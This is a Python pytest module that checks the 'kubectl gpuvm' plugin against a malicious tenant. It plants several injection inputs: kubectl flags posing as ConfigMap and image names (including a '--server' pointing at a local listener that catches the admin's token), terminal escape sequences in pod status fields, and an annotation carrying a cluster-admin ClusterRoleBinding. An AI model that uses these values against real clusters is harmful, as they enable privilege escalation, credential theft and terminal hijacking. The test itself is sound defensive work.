"""A tenant who may edit one namespace, and an admin who runs every verb of `kubectl gpuvm` on what the tenant made
there: nothing is made outside, nobody gets a right, no other server is asked, no byte steers the admin's terminal.

The API server is real, and there is no node: what a kubelet would write of a container's last words is written for it.
"""

import json
import os
import sys
import time
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from functools import cached_property
from typing import Any

import pytest

from gpuvm.cli import VERBS
from gpuvm.objects import ID_LABEL
from launcher.pod.controllers import pod_spec
from tests.lab.box import Box
from tests.lab.control_plane import Cluster
from tests.lab.pods import made, manifest
from tests.processes import ROOT

NAMESPACE, ACCOUNT = "team", "mallory"
_TENANT = f"--as=system:serviceaccount:{NAMESPACE}:{ACCOUNT}"
_HOME = "/run/lab/admin"
_EVIL = 26080
#: Listens for whoever is sent there with an admin's token.
_SERVER = f"""
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print("asked", self.path, self.headers, flush=True)
        self.send_error(404)
    def log_message(self, *words): pass
http.server.HTTPServer(("127.0.0.1", {_EVIL}), Handler).serve_forever()
"""
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\u202etxt\r"
#: What no tenant may make, and would have an admin make.
_BINDING = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "mallory"},
    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": ACCOUNT, "namespace": NAMESPACE}],
}
_LAST_APPLIED = "kubectl.kubernetes.io/last-applied-configuration"
#: Kinds of objects that change by themselves.
_CHANGE = ("events", "leases", "componentstatuses", "endpoints", "endpointslices", "ipaddresses")

#: The words of each verb, VM being the VM's name, FILE a manifest of that VM; what ends the VM comes last.
WORDS: dict[str, tuple[str, ...]] = {
    "list": ("list",),
    "why": ("why", "VM"),
    "map": ("map",),
    "pause": ("pause", "VM"),
    "unpause": ("unpause", "VM"),
    "reset": ("reset", "VM"),
    "state": ("state", "VM"),
    "events": ("events", "VM"),
    "console": ("console", "VM"),
    "guest": ("guest", "info", "VM"),
    "vnc": ("screenshot", "VM", "-f", f"{_HOME}/vnc.ppm"),  # vnc itself asks for nothing before a viewer comes
    "screenshot": ("screenshot", "VM", "-f", f"{_HOME}/screen.ppm"),
    "ssh": ("ssh", "VM", "-t", "-oBatchMode=yes"),
    "scp": ("scp", "VM:/x", f"{_HOME}/x", "-t", "-oBatchMode=yes"),
    "port-forward": ("port-forward", "VM", "8022:22"),
    "logs": ("logs", "VM"),
    "restart": ("restart", "VM"),
    "start": ("start", "VM"),
    "edit": ("edit", "VM", "--restart"),
    "apply": ("apply", "-f", "FILE", "--image=localhost/other", "--restart"),
    "suspend": ("suspend", "VM"),
    "resume": ("resume", "VM"),
    "move": ("move", "VM"),
    "cordon": ("cordon", "node/0000:41:00.0"),
    "uncordon": ("uncordon", "node/0000:41:00.0"),
    "stop": ("stop", "VM"),
    "delete": ("delete", "VM", "--with-state"),
}

Object = dict[str, Any]


@dataclass
class Admin:
    """Whoever runs the verbs, at a terminal."""

    cluster: Cluster

    @property
    def box(self) -> Box:
        return self.cluster.box

    def runs(self, *words: str) -> str:
        """What comes to the terminal."""
        path = f"/run/lab/kubernetes:{ROOT / '.venv/bin'}:{os.environ['PATH']}"
        environ = {"PATH": path, "KUBECONFIG": self.cluster.argv()[2], "HOME": _HOME, "TMPDIR": _HOME}
        environ |= {"KUBE_EDITOR": "sed -i s/256Mi/272Mi/", "TERM": "xterm"}
        call = ["env", *(f"{name}={value}" for name, value in environ.items()), "kubectl-gpuvm"]
        verb, *others = words
        argv = [*call, verb, "-n", NAMESPACE, *others]
        program = "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)"
        return self.box.run("timeout", "60", sys.executable, "-c", program, *argv, seconds=90).stdout

    def steers(self, text: str) -> str:
        """The characters among these that are no text."""
        return "".join(each for each in text.replace("\r\n", "\n") if not each.isprintable() and each != "\n")

    def asked(self) -> str:
        """What the other server was asked."""
        return (self.box.logs / "evil.log").read_text()

    def rights(self) -> str:
        """What the tenant may do."""
        return "".join(
            self.cluster.kubectl("auth", "can-i", "--list", "-n", each, _TENANT)
            for each in (NAMESPACE, "default", "kube-system")
        )

    def objects(self) -> dict[tuple[str, ...], object]:
        """All objects that are not of the tenant's own VMs, but for what changes by itself."""
        return {
            (path, each["metadata"].get("namespace", ""), each["metadata"]["name"]): {
                name: value for name, value in each.items() if name not in ("metadata", "status")
            }
            for path in self.paths
            for each in self.cluster.read(path)["items"]
            if not _is_of_a_vm(each)
        }

    @cached_property
    def paths(self) -> list[str]:
        """Where the API server lists the objects of each kind."""
        groups = ["api/v1", *(f"apis/{each['preferredVersion']['groupVersion']}"
                              for each in self.cluster.read("apis")["groups"])]  # fmt: skip
        return [
            f"{group}/{kind['name']}"
            for group in groups
            for kind in self.cluster.read(group)["resources"]
            if "list" in kind["verbs"] and kind["name"] not in _CHANGE
        ]

    def make(self, *objects: Object) -> None:
        """Have the tenant make them."""
        text = "\n---\n".join(map(json.dumps, objects))
        self.cluster.kubectl("create", "-n", NAMESPACE, "-f", "-", _TENANT, stdin=text)

    def annotate(self, what: str, last_applied: object) -> None:
        """Have the tenant say what was applied last; `kubectl create` would write it itself."""
        patch = json.dumps({"metadata": {"annotations": {_LAST_APPLIED: json.dumps(last_applied)}}})
        self.cluster.kubectl("patch", what, "-n", NAMESPACE, "--type=merge", "-p", patch, _TENANT)

    def status(self, pod: str, **status: object) -> None:
        """Say what the scheduler or a kubelet says of a pod."""
        patch = json.dumps({"status": status})
        self.cluster.kubectl("patch", "pod", pod, "-n", NAMESPACE, "--subresource=status", "--type=merge", "-p", patch)


def _is_of_a_vm(each: Object) -> bool:
    metadata = each["metadata"]
    return metadata.get("namespace") == NAMESPACE and metadata.get("labels", {}).get(ID_LABEL) in VMS


def _vm(name: str, *flags: str, run_strategy: str = "RerunOnFailure") -> tuple[Object, ...]:
    """What `gpu-launcher pod` prints for a VM."""
    return made(manifest(name, 1, run_strategy=run_strategy), *flags)


def _naming(objects: tuple[Object, ...], config_map: str) -> tuple[Object, ...]:
    """The same, with a pod that names another ConfigMap."""
    objects = deepcopy(objects)
    spec = pod_spec(objects[-1])
    assert spec is not None
    next(each for each in spec["volumes"] if "configMap" in each)["configMap"]["name"] = config_map
    return objects


def _flags(admin: Admin, flag: str, name: str) -> None:
    """A pod that waits for a node, and whose ConfigMap is called as a flag of kubectl."""
    admin.make(*_naming(_vm(name), flag))
    unscheduled = {"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": f"0/1 {ESCAPES}"}
    admin.status(name, conditions=[unscheduled])


def _words(admin: Admin) -> None:
    """A pod that failed, and of which each text steers a terminal."""
    objects = deepcopy(_vm("words"))
    objects[-1]["spec"]["containers"][0]["image"] = "--server=x"
    objects[-1]["metadata"]["annotations"]["gpu-launcher.dev/level"] = f"privileged{ESCAPES}"
    admin.make(*objects)
    ended = {"exitCode": 1, "reason": ESCAPES, "message": f"one\ngpu-launcher: {ESCAPES}"}
    container = {"name": "compute", "image": ESCAPES, "imageID": ESCAPES, "ready": False, "restartCount": 0,
                 "state": {"terminated": ended}}  # fmt: skip
    admin.status("words", phase="Failed", reason=ESCAPES, message=ESCAPES, containerStatuses=[container])
    uid = admin.cluster.read(f"api/v1/namespaces/{NAMESPACE}/pods/words")["metadata"]["uid"]
    about = {"kind": "Pod", "name": "words", "namespace": NAMESPACE, "uid": uid}
    event = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "words.1"}, "involvedObject": about}
    admin.make({**event, "type": "Warning", "reason": f"Failed{ESCAPES}", "message": ESCAPES})


def _ended(admin: Admin, name: str, config_map: str | None = None) -> None:
    """A pod that has ended, of which an annotation says what was applied."""
    admin.make(*(_vm(name) if config_map is None else _naming(_vm(name), config_map)))
    admin.annotate(f"pod/{name}", _BINDING)
    admin.status(name, phase="Succeeded")


def _controller(admin: Admin) -> None:
    """A Deployment with a number of replicas that is none."""
    admin.make(*_vm("deployed", "--as=deployment", run_strategy="Always"))
    admin.annotate("deployment/deployed", {"spec": {"replicas": {"a": 1}}})


VMS: dict[str, Callable[[Admin], None]] = {
    "server": lambda admin: _flags(admin, f"--server=http://127.0.0.1:{_EVIL}", "server"),
    "cache": lambda admin: _flags(admin, f"--cache-dir={_HOME}/written", "cache"),
    "words": _words,
    "binding": lambda admin: _ended(admin, "binding"),
    "foreign": lambda admin: _ended(admin, "foreign", "others"),
    "deployed": _controller,
}


@pytest.fixture(scope="module")
def admin(cluster: Cluster) -> Admin:
    admin = Admin(cluster)
    admin.box.path(_HOME).mkdir()
    admin.box.spawn("evil", sys.executable, "-c", _SERVER)
    cluster.kubectl("create", "namespace", NAMESPACE)
    cluster.kubectl("create", "serviceaccount", ACCOUNT, "-n", NAMESPACE)
    admin.box.until("a pod can be made there", lambda: cluster.kubectl("get", "sa", "default", "-n", NAMESPACE), 60)
    role = ("rolebinding", ACCOUNT, "--clusterrole=edit", f"--serviceaccount={NAMESPACE}:{ACCOUNT}")
    cluster.kubectl("create", *role, "-n", NAMESPACE)
    for name, labels in (("others", {}), ("victim", {ID_LABEL: "victim"})):
        admin.make({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "labels": labels}})
    admin.box.until("the tenant may make a pod", lambda: "pods/exec" in admin.rights(), 60)
    return admin


def test_every_verb_has_its_words() -> None:
    assert WORDS.keys() == VERBS.keys()


@pytest.mark.parametrize("vm", VMS)
def test_no_verb_does_for_a_tenant_what_the_tenant_may_not(admin: Admin, vm: str, noted: Callable[[str], None]) -> None:
    VMS[vm](admin)
    file = admin.box.path(f"{_HOME}/{vm}.yaml")
    file.write_text(json.dumps(manifest(vm, 1, run_strategy="RerunOnFailure")))
    objects, rights, asked = admin.objects(), admin.rights(), admin.asked()
    began = time.monotonic()
    for verb, words in WORDS.items():
        names = {"VM": vm, "FILE": f"{_HOME}/{vm}.yaml", "VM:/x": f"{vm}:/x"}
        text = admin.runs(*(names.get(word, word) for word in words))
        assert admin.steers(text) == "", f"{verb}: {text!r}"
        assert admin.asked() == asked, f"{verb}: {text}"
        assert admin.objects() == objects, f"{verb}: {text}"
    assert admin.rights() == rights
    assert not admin.box.path(f"{_HOME}/written").exists()
    noted(f"{len(WORDS)} verbs on {vm} in {time.monotonic() - began:.0f} s")
